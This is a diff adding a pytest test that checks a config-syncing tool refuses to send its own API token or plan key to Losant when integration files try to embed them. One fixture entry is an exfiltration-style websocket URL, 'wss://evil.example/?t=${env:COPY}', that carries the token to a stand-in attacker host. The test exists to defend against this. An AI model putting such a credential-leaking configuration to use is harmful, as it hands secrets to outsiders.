@@ -32,6 +32,42 @@ def test_syncer_yaml_cannot_build_the_api_url_from_the_environment(tmp_path: Pat
     )
 
 
+@pytest.mark.parametrize("command", ["plan", "apply"])
+def test_a_file_cannot_hand_syncers_own_credentials_to_losant(command: str, tmp_path: Path) -> None:
+    """Written to Losant, an integration passes its URL, headers and tokens on: a file under
+    review must not be able to put the token (by its own name, under another, or as a
+    default) or the plan key there."""
+    key = "plan-key-SECRET-9931"
+    entries = [
+        {**PARTICLE, "name": "by name", "particleConfig": {"accessToken": "${env:LOSANT_API_TOKEN}"}},
+        {
+            "name": "by copy",
+            "integrationType": "websocket",
+            "websocketConfig": {"url": "wss://evil.example/?t=${env:COPY}", "headers": []},
+        },
+        {**PARTICLE, "name": "by key", "particleConfig": {"accessToken": "k ${env:SYNCER_PLAN_KEY}"}},
+        {**PARTICLE, "name": "fine"},
+    ]
+    with running_emulator(tokens={TOKEN: ("all.Application",)}) as running:
+        args = ("--auto-approve",) if command == "apply" else ()
+        env = {"COPY": TOKEN, "SYNCER_PLAN_KEY": key}
+        result = run(running, command, *args, str(tree(tmp_path, *entries)), token=TOKEN, env=env)
+        assert running.emulator.log == []  # refused before any request
+    lines = failed(result).splitlines()
+    own = "syncer's own credential, which it never sends to Losant"
+    where = [line.split("integrations.yaml:")[1].split(f", {own}")[0] for line in lines[:3]]
+    assert where == [
+        "3:3: integrations[0].particleConfig.accessToken: holds the API token",
+        "7:3: integrations[1].websocketConfig.url: holds the API token",
+        "12:3: integrations[2].particleConfig.accessToken: holds SYNCER_PLAN_KEY",
+    ]
+    assert lines[3:] == [
+        "refusing to send syncer's own credential to Losant (3 values of the files); nothing was changed"
+    ]
+    assert TOKEN not in result.output
+    assert key not in result.output
+
+
 @pytest.mark.parametrize("field", ["name", "previousNames", "id"])
 def test_an_identity_cannot_come_from_the_environment(field: str, tmp_path: Path) -> None:
     value: Any = "${env:SECRET_NAME}" if field != "previousNames" else ["${env:SECRET_NAME}"]
